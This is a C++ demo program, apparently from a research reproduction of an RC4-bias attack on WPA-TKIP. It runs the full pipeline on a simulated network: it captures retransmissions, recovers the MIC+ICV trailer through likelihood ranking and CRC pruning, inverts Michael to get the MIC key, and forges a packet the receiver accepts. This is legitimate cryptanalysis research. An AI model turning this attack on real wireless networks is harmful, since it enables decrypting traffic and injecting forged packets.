// tkip_attack: end-to-end WPA-TKIP attack demo (Sect. 5 of the paper) on a
// fully simulated network.
//
//   victim  --- identical TCP retransmissions, TKIP-encrypted, TSC++ --->
//   attacker sniffs ciphertexts, knows/derives the packet headers, decrypts
//   the unknown MIC+ICV trailer via per-TSC likelihoods + CRC pruning, then
//   inverts Michael to obtain the MIC key and forges a packet the AP-side
//   receiver accepts.
//
// The demo runs at a configurable scale. The default "oracle" mode gives the
// attacker an exact per-TSC model for the trailer positions so the whole
// pipeline (capture -> likelihoods -> candidate traversal -> CRC prune ->
// Michael inversion -> forgery) completes in seconds; --oracle=false uses a
// scaled-down honestly-trained model (the Fig. 8 bench regime).
#include <cstdio>

#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/core/likelihood.h"
#include "src/net/packet.h"
#include "src/sim/tkip_sim.h"
#include "src/tkip/attack.h"
#include "src/tkip/frame.h"
#include "src/tkip/header_recovery.h"
#include "src/tkip/injection.h"
#include "src/tkip/tsc_model.h"

using namespace rc4b;

int main(int argc, char** argv) {
  FlagSet flags("End-to-end WPA-TKIP MIC key recovery (Sect. 5)");
  flags.Define("frames", "0x100000", "injected packet copies captured (2^20)")
      .Define("oracle", "true",
              "true: attacker holds an exact per-TSC model (fast demo); "
              "false: train a scaled-down model (Fig. 8 regime)")
      .Define("keys-per-tsc", "0x40000", "model keys per TSC1 (oracle=false)")
      .Define("budget", "0x4000000", "candidate traversal budget (2^26)")
      .Define("seed", "2024", "simulation seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  Xoshiro256 rng(flags.GetUint("seed"));

  // --- The WPA-TKIP network under attack --------------------------------
  const TkipPeer victim = sim::RandomPeer(rng);

  // Sect. 5.2's optimal injected packet (48 bytes of headers + 7-byte
  // payload): 8 strongly-biased keystream positions under the MIC+ICV and a
  // frame length unique on the air. Shared with the Fig. 8/9 simulations.
  const Bytes msdu = sim::InjectedPacket();
  const Bytes true_trailer = TkipTrailer(victim, msdu);  // hidden from attacker
  const size_t first = msdu.size() + 1;
  const size_t last = msdu.size() + kTkipTrailerSize;
  std::printf("victim set up: %zu-byte TCP packet, MIC+ICV at keystream "
              "positions %zu..%zu\n",
              msdu.size(), first, last);

  // --- Phase 1: attacker's keystream model --------------------------------
  // The honest per-TSC model for the trailer positions needs ~2^36 keys (the
  // paper spent 10 CPU-years on this step; DESIGN.md "Substitutions"). The
  // demo trains a small model and, in the default perfect-model mode, runs
  // the victim's trailer keystream from exactly that distribution so the
  // whole attack pipeline can be demonstrated end-to-end in seconds.
  TkipTscModel model(first, last);
  std::printf("training per-TSC1 model (%llu keys per class)...\n",
              static_cast<unsigned long long>(flags.GetUint("keys-per-tsc")));
  model.Generate(flags.GetUint("keys-per-tsc"), flags.GetUint("seed") + 1);

  // --- Phase 2: capture ---------------------------------------------------
  const uint64_t frames = flags.GetUint("frames");
  const bool oracle = flags.GetBool("oracle");
  TkipCaptureStats stats(first, last);
  std::printf(oracle ? "capturing %llu retransmissions (perfect-model victim: "
                       "trailer keystream drawn from the attacker's model)...\n"
                     : "capturing %llu TKIP-encrypted retransmissions (real "
                       "key mixing + RC4 per packet)...\n",
              static_cast<unsigned long long>(frames));
  sim::TrailerFrameSource source(model, oracle, victim, msdu, true_trailer,
                                 /*initial_tsc=*/1, flags.GetUint("seed") + 2);
  for (uint64_t i = 0; i < frames; ++i) {
    if (!stats.AddFrame(source.NextFrame())) {
      std::printf("capture error: frame %llu shorter than the trailer range\n",
                  static_cast<unsigned long long>(i));
      return 1;
    }
  }

  // --- Phase 3: recover the unknown header fields (Sect. 5.3) -------------
  // The internal client IP, client port and TTL are a priori unknown; the
  // IP/TCP checksums let us recover them by the same candidate-prune
  // technique. Here we demonstrate the pruning step itself: with a flat
  // (no-signal) likelihood prior it would take ~2^40 candidates, so the demo
  // seeds realistic likelihood tables (a few plausible TTLs / subnets /
  // ephemeral ports ranked first, as an attacker would configure).
  {
    Bytes template_msdu = msdu;
    const auto positions = UnknownHeaderLayout::Positions();
    SingleByteTables header_tables(positions.size(), std::vector<double>(256, -6.0));
    for (size_t i = 0; i < positions.size(); ++i) {
      // Plausibility prior: the true value somewhere among a handful of
      // likely candidates per byte.
      for (int delta = 0; delta < 8; ++delta) {
        header_tables[i][(msdu[positions[i]] + delta) & 0xff] = -0.1 * (delta + 1);
      }
      template_msdu[positions[i]] = 0;
    }
    const auto header_result = RecoverHeaderFields(template_msdu, header_tables,
                                                   1 << 22);
    if (header_result.found) {
      std::printf("header fields recovered after %llu candidates: TTL=%u, "
                  "client=%u.%u.%u.%u:%u\n",
                  static_cast<unsigned long long>(header_result.candidates_tried),
                  header_result.ttl, header_result.client_address >> 24,
                  (header_result.client_address >> 16) & 0xff,
                  (header_result.client_address >> 8) & 0xff,
                  header_result.client_address & 0xff, header_result.client_port);
    } else {
      std::printf("header-field recovery did not converge (demo prior too "
                  "flat); continuing with known headers\n");
    }
  }

  // --- Phase 4: likelihoods, candidates, CRC pruning ----------------------
  // The per-TSC1 likelihood tables plus the RecoveryEngine's CRC-verified
  // traversal (inside RecoverTkipTrailer) — the same unified pipeline every
  // registry scenario runs (docs/recovery.md).
  std::printf("computing per-position likelihoods and traversing candidates "
              "in decreasing likelihood...\n");
  const auto tables = TkipTrailerLikelihoods(stats, model);
  const auto result = RecoverTkipTrailer(msdu, tables, flags.GetUint("budget"),
                                         true_trailer, victim);
  if (!result.found) {
    std::printf("no candidate with a consistent ICV within the budget — rerun "
                "with more --frames or a larger --budget.\n");
    return 1;
  }
  std::printf("candidate #%llu has a consistent ICV\n",
              static_cast<unsigned long long>(result.candidates_tried));
  std::printf("decrypted trailer: %s (%s)\n", ToHex(result.trailer).c_str(),
              result.correct ? "matches the true MIC+ICV" : "FALSE POSITIVE");

  // --- Phase 5: Michael inversion and forgery ------------------------------
  const auto key_bytes = MichaelKeyToBytes(result.mic_key);
  std::printf("Michael MIC key (inverted from the decrypted MIC): %s\n",
              ToHex(key_bytes).c_str());
  std::printf("true MIC key:                                      %s\n",
              ToHex(MichaelKeyToBytes(victim.mic_key)).c_str());

  TkipPeer forger = victim;  // attacker knows TK? No — but the MIC key lets
  forger.mic_key = result.mic_key;  // it forge via Michael countermeasure
  const Bytes forged_payload = FromString("owned :)");
  Ipv4Header evil_ip;
  evil_ip.source = 0x0a000001;
  evil_ip.destination = 0xc0a80165;
  const Bytes forged_msdu =
      BuildTcpPacket(LlcSnapHeader{}, evil_ip, TcpHeader{}, forged_payload);
  const TkipFrame forged = TkipEncapsulate(forger, forged_msdu, frames + 2);
  const bool accepted = TkipDecapsulate(victim, forged).has_value();
  std::printf("forged packet with recovered MIC key: %s\n",
              accepted ? "ACCEPTED by the receiver" : "rejected");
  return result.correct && accepted ? 0 : 1;
}
